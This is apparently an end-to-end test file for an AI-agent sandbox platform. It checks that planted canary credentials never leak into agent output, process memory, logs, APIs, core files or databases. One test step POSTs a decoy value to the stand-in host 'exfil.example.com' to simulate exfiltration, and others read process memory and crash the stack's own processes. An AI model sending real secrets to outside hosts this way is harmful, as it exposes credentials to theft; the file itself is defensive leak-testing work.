import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdir, readdir, readFile, readlink } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { spawnChild } from '#lib';
import { eventually, showLogOnFailure, startStack, type TestStack } from '../e2e/harness.ts';
import { formsIn, isWhole, needlesOf, searchMemory, searchProcesses, searchTree, type Needle } from '../e2e/support/canary.ts';
import { processesOf, withDescendants } from '../e2e/support/leftovers.ts';
import { probeAgent } from '../e2e/support/manifests.ts';
import { createCredentials, HOSTS, TOKEN_HOST, type Credentials } from './canary/credentials.ts';
import { startEchoServers, type EchoServers } from './canary/echo-servers.ts';
import { adminAnswers, apiAnswers, formsOf, storedRows } from './canary/places.ts';
import { ATTEMPTS, stepOf, TWINS } from './canary/requests.ts';

/**
 * Credentials of every kind, used in every way an agent can use them, also at upstreams that say them back: their real values are
 * nowhere but in the database of the API, and in the memory of the programs that need them. Each search has a twin, a value of no worth
 * that was planted there; one that does not find the twin proves nothing. Bodies of good answers are searched by `redactResponses`
 * alone, so the others are errors here.
 */

let stack: TestStack;
let servers: EchoServers;
let credentials: Credentials;
let needles: readonly Needle[];
let answer: Awaited<ReturnType<TestStack['probe']>>;
const twin = `twin-${randomBytes(20).toString('hex')}`;
const twins = needlesOf(twin);
const MASK = 0xa5;

/** As text that holds no needle. */
const masked = (all: readonly Needle[], prefix = '') =>
  all.map(({ form, bytes }) => ({ form: `${prefix}${form}`, masked: Buffer.from(bytes.map((byte) => byte ^ MASK)).toString('hex') }));

const plainly = (form: string): string => form.replace('compressed, ', '');

interface Searched {
  readonly bytes: number;
  readonly files?: number;
  readonly found: readonly { readonly place: string; readonly form: string }[];
}

beforeAll(async () => {
  stack = await startStack();
  credentials = createCredentials();
  needles = [...credentials.needles, ...needlesOf(stack.key)];
  const { dead: _, ...hosts } = HOSTS;
  servers = await startEchoServers(stack, { hosts: Object.values(hosts), tokenHost: TOKEN_HOST, accounts: credentials.accounts });
  await credentials.apply(stack, servers, twin);
  await stack.apply(
    probeAgent(
      'canary',
      // To read all that could be memory makes it memory.
      { timeout: '300s', resources: { memory: '3Gi' }, egressRefs: [{ gatewayRef: 'canary' }, { gatewayRef: 'default' }] },
      { env: [{ name: 'TWIN', value: twin }] },
    ),
  );
  await stack.condition('taskagents', 'canary', 'Ready', 'True');
  // A token takes a moment to be minted.
  await eventually(
    'every credential is there',
    async () => {
      const { results } = await stack.probe('canary', ...Object.keys(hosts).map((host) => stepOf({ host: host as keyof typeof hosts, status: 200 })));
      const statuses = results.map((result) => result?.['status'] ?? result?.['error']);
      if (statuses.some((status) => status !== 200)) throw new Error(JSON.stringify(results));
      return true;
    },
    30_000,
  );
  answer = await stack.probe(
    'canary',
    ...ATTEMPTS.map((attempt) => stepOf(attempt)),
    ...TWINS.map((attempt) => stepOf(attempt, twin)),
    { fetch: { url: `https://exfil.example.com/${twin}`, method: 'POST', body: 'x' } },
    { stderr: `${twin}\n` },
    { hold: twin },
    { write: { path: '/tmp/twin', text: twin } },
    { search: { needles: [...masked(needles), ...masked(twins.filter(isWhole), 'twin: ')], mask: MASK } },
  );
  await stack.egressLog(answer.invocation, (all) => all.some(({ path }) => path.includes(twin)), 30_000);
}, 300_000);
afterAll(async () => {
  await servers?.[Symbol.asyncDispose]();
  await stack?.[Symbol.asyncDispose]();
});
beforeEach(() => showLogOnFailure(() => stack));

it('every credential was used, and every attempt went as it should', () => {
  const used = Buffer.from(JSON.stringify(servers.seen));
  const raw = credentials.needles.filter(({ form }) => form === 'JSON' || form === 'raw');
  // Each but the key that only signs, and those of the service account and of the host where nobody is.
  expect(raw.filter(({ bytes }) => used.includes(bytes)).length).toBeGreaterThanOrEqual(5);
  expect(Object.values(HOSTS).filter((host) => !servers.seen.some((request) => request.host === host))).toEqual([HOSTS.dead]);
  const statuses = answer.results.slice(0, ATTEMPTS.length).map((result, n) => ({ ...ATTEMPTS[n]!, status: result?.['status'] ?? result?.['error'] }));
  expect(statuses).toEqual(ATTEMPTS);
});

it('answers: an agent reads none, in whatever form an upstream says it', () => {
  const received = (from: number, to: number): Buffer => Buffer.from(JSON.stringify(answer.results.slice(from, to)));
  const at = ATTEMPTS.length;
  // What JSON does to what is escaped already is undone.
  expect(
    formsIn(
      Buffer.from(
        received(at, at + TWINS.length)
          .toString()
          .replaceAll('\\\\', '\\'),
      ),
      twins.filter(isWhole),
    ),
  ).toEqual(expect.arrayContaining(['raw', 'base64 at 0', 'base64url at 0', 'percent-encoded', 'escaped']));
  expect(formsIn(Buffer.from(received(0, at).toString().replaceAll('\\\\', '\\')), needles)).toEqual([]);
  expect(formsIn(Buffer.from(JSON.stringify(answer)), needles)).toEqual([]);
});

it('the sandbox, seen from inside: files, environment and memory of the agent', () => {
  const searched = answer.results.at(-1) as unknown as Readonly<Record<'files' | 'memory' | 'environment', Searched>>;
  for (const [name, { found }] of Object.entries(searched)) {
    expect([name, found.filter(({ form }) => !form.startsWith('twin: '))]).toEqual([name, []]);
    expect([name, found.map(({ form }) => form)]).toEqual([name, expect.arrayContaining(['twin: raw'])]);
  }
  expect(searched.files.found.map(({ place }) => place)).toEqual(expect.arrayContaining(['/tmp/twin']));
  expect(searched.memory.found.map(({ form }) => form)).toEqual(expect.arrayContaining(['twin: base64 at 0', 'twin: hex', 'twin: UTF-16']));
  expect(searched.files.files).toBeGreaterThan(100);
  expect(searched.files.bytes).toBeGreaterThan(50_000_000);
  expect(searched.memory.bytes).toBeGreaterThan(10_000_000);
});

it('the sandbox, seen from outside: memory of its kernel and of the agent', async () => {
  const before = servers.seen.length;
  const steps = [{ hold: twin }, ...ATTEMPTS.slice(0, 12).map((attempt) => stepOf(attempt)), { sleep: 5_000 }];
  const running = stack.invoke('canary', { steps });
  await eventually('the agent is in the middle of its work', () => (servers.seen.length >= before + 10 ? true : undefined));
  const [sentry, ...others] = await stack.pids('runsc-sandbox');
  expect(others).toEqual([]);
  const all = await processesOf(stack.state, stack.run);
  // Without its kernel the agent stands still, for as long as the search takes.
  process.kill(sentry!, 'SIGSTOP');
  const found: string[] = [];
  try {
    const looked = [...needles.filter(isWhole), ...twins.filter(({ form }) => form === 'raw').map(({ bytes }) => ({ form: 'twin', bytes }))];
    const files = new Set<number>();
    for (const pid of await withDescendants(all.filter(({ argv }) => /runsc/.test(argv[0]!)).map(({ pid: of }) => of)))
      found.push(...(await searchMemory(pid, looked, files)).found.flatMap(({ forms }) => forms));
    expect(files.size, 'the file that is the memory of the guest was searched').toBeGreaterThan(0);
  } finally {
    process.kill(sentry!, 'SIGCONT');
  }
  expect([...new Set(found.map(plainly))]).toEqual(['twin']);
  expect((await running).status).toBe(200);
});

it('our own programs: environment, command line and memory, but of the three that need it', async () => {
  const all = await processesOf(stack.state, stack.run);
  expect(await searchProcesses([stack.devPid, ...all.map(({ pid }) => pid)], needles)).toEqual([]);
  const environment = spawnChild('sleep', ['60'], { env: { TWIN: twin }, stdio: 'ignore' });
  // Until it has become the program it starts, its environment is ours.
  await eventually('the twin is found', async () => ((await searchProcesses([environment.pid!], twins)).length > 0 ? true : undefined));
  environment.kill('SIGKILL');

  const memoryOf = async (pids: readonly number[], looked: readonly Needle[]): Promise<string[]> => {
    const found: string[] = [];
    for (const pid of pids) found.push(...(await searchMemory(pid, looked)).found.flatMap(({ forms }) => forms));
    return [...new Set(found.map(plainly))];
  };
  const looked = [...needles.filter(isWhole), ...twins.filter(({ form }) => form === 'raw').map(({ bytes }) => ({ form: 'twin', bytes }))];
  const where: Record<string, string[]> = {};
  for (const name of ['dispatcher', 'worker', 'recorder', 'store', 'front']) where[name] = await memoryOf(await stack.pids(name), looked);
  where['clrk dev'] = await memoryOf([stack.devPid], looked);
  expect(Object.entries(where).filter(([, forms]) => forms.some((form) => form !== 'twin'))).toEqual([]);
  expect(Object.values(where).flat(), JSON.stringify(where)).toContain('twin');
  const raw = credentials.injected.map((text) => ({ form: 'raw', bytes: Buffer.from(text) }));
  for (const name of ['controller-manager', 'egress', 'envoy']) expect([name, await memoryOf(await stack.pids(name), raw)]).toEqual([name, ['raw']]);
});

/** Where the values have to be, of all files: the API's database and its journals. */
const DATABASE = /^api\/api\.db(?:-wal|-shm)?$/;
const expectFilesClean = async (): Promise<void> => {
  const images = (path: string) => path === 'images';
  const places = async (looked: readonly Needle[]) =>
    (await searchTree(stack.state, looked, images)).found.map(({ place }) => place.slice(stack.state.length + 1));
  const real = await places(needles);
  expect(real.filter((place) => !DATABASE.test(place))).toEqual([]);
  expect(real, 'the Secrets are where they are stored').not.toEqual([]);
  const planted = await places(twins);
  for (const part of ['api/api.db', 'workers/0/records/envoy-', 'workers/0/records/worker/'])
    expect(
      planted.some((place) => place.startsWith(part)),
      `${part} among ${planted.join(', ')}`,
    ).toBe(true);
};

it('files of the state directory and of the run directory', async () => {
  await expectFilesClean();
  expect((await searchTree(stack.run, needles)).found).toEqual([]);
});

it('what our programs print, and what the command line shows', async () => {
  const log = await readFile(stack.logFile);
  expect(formsIn(log, twins)).toContain('raw');
  expect(formsIn(log, needles)).toEqual([]);
  for (const args of [
    ['egress', 'log', '--invocation', answer.invocation, '-o', 'json'],
    ['egress', 'log', '--invocation', answer.invocation],
    ['agents', 'logs', 'canary'],
  ]) {
    const { stdout, stderr } = await stack.clrk(args);
    expect([args, formsIn(Buffer.from(stdout + stderr), twins).includes('raw')]).toEqual([args, true]);
    expect([args, formsIn(Buffer.from(stdout + stderr), needles)]).toEqual([args, []]);
  }
});

it('the API: every kind, and what happens at run time', async () => {
  const answers = await apiAnswers(stack, 'canary');
  expect(formsOf(answers, needles)).toEqual({});
  const planted = Object.keys(formsOf(answers, twins)).join('\n');
  for (const part of ['/taskagents', '/aiproviderroutes', '/exchanges', '/logs']) expect(planted).toContain(part);
  expect([...answers.keys()].filter((path) => path.includes('/secrets')).length, 'Secrets as tables').toBeGreaterThan(0);
});

it("Envoy's admin interface", async () => {
  const envoys = (await readdir(join(stack.run, 'w0'))).filter((name) => /^envoy-\d+$/.test(name));
  expect(envoys).toHaveLength(2);
  const planted: string[] = [];
  for (const envoy of envoys) {
    const answers = await adminAnswers(stack, join(stack.run, 'w0', envoy, 'admin'));
    expect([envoy, formsOf(answers, needles)]).toEqual([envoy, {}]);
    planted.push(...Object.keys(formsOf(answers, twins)));
  }
  // The name of a route is in all that tells of routes and clusters.
  expect(planted).toContain('/config_dump?include_eds');
});

/** What the shell exits with where nothing that a test starts can leave a core file. */
const NO_CORES = 3;

it('core files: a program of ours that crashes leaves none', async () => {
  const coresIn = async (dir: string): Promise<string[]> => (await readdir(dir)).filter((name) => name.startsWith('core'));
  // The twin: a program that may leave one does.
  const dir = join(stack.dir, 'crash');
  await mkdir(dir);
  if (!(await readFile('/proc/sys/kernel/core_pattern', 'utf8')).startsWith('|')) {
    // Not one of `spawnChild`, which takes that away from whatever it starts.
    const env = { PATH: process.env['PATH'], TWIN: twin };
    const script = `ulimit -c unlimited || exit ${NO_CORES}; kill -SEGV $$`;
    const code = await new Promise((resolve) => execFile('sh', ['-c', script], { cwd: dir, env }, (error) => resolve(error?.code)));
    if (code !== NO_CORES) expect((await searchTree(dir, twins)).found.length).toBeGreaterThan(0);
  }
  for (const name of ['envoy', 'egress', 'controller-manager']) {
    for (const pid of await stack.pids(name)) {
      const limits = await readFile(`/proc/${pid}/limits`, 'utf8');
      expect([name, /Max core file size +(\S+) +(\S+)/.exec(limits)?.slice(1)]).toEqual([name, ['0', '0']]);
    }
  }
  const [envoy] = await stack.pids('envoy');
  const cwd = stack.inside(await readlink(`/proc/${envoy}/cwd`));
  const before = await coresIn(cwd);
  process.kill(envoy!, 'SIGSEGV');
  await eventually('Envoy has ended', async () => ((await stack.pids('envoy')).includes(envoy!) ? undefined : true));
  expect(await coresIn(cwd)).toEqual(before);
  // What it says of its end.
  expect(formsIn(await readFile(stack.logFile), needles)).toEqual([]);
});

it('ClickHouse: every column of every table, and files of a stopped stack', async () => {
  await stack.stop();
  const rows = await storedRows(join(stack.state, 'clickhouse'));
  expect(formsOf(rows, needles)).toEqual({});
  const planted = Object.entries(formsOf(rows, twins)).filter(([, forms]) => forms.includes('raw'));
  expect(
    planted.map(([table]) => table),
    [...rows.keys()].join(', '),
  ).toEqual(expect.arrayContaining([expect.stringMatching(/exchanges$/), expect.stringMatching(/logs$/)]));
  await expectFilesClean();
});
